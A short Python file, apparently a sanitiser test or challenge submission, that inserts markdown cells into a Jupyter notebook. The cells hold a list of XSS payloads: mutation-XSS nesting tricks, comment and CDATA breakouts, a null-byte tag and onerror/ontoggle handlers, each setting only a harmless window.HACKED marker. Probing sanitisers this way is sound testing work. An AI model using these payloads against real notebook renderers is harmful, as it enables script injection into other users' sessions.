"""Markup that a parser mends into a script when it is read a second time."""

from nbformat.v4 import new_markdown_cell

def submit(notebook):
    parts = [
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.HACKED=1&gt;'>",
        "<svg></p><style><a id='</style><img src=1 onerror=window.HACKED=1>'>",
        "<noscript><p title='</noscript><img src=x onerror=window.HACKED=1>'>",
        "<details open ontoggle=window.HACKED=1>", "<select><style></select><img src=x onerror=window.HACKED=1>",
        "<!--><img src=x onerror=window.HACKED=1>-->", "<![CDATA[><img src=x onerror=window.HACKED=1>]]>",
        "<plaintext><xmp><listing>", "`<img src=x onerror=window.HACKED=1>` ``` <script>window.HACKED=1</script>",
        "<img src=`x`onerror=window.HACKED=1>", "<a\x00href=javascript:window.HACKED=1>x</a>",
    ]
    for part in parts:
        notebook.cells.insert(0, new_markdown_cell(part))
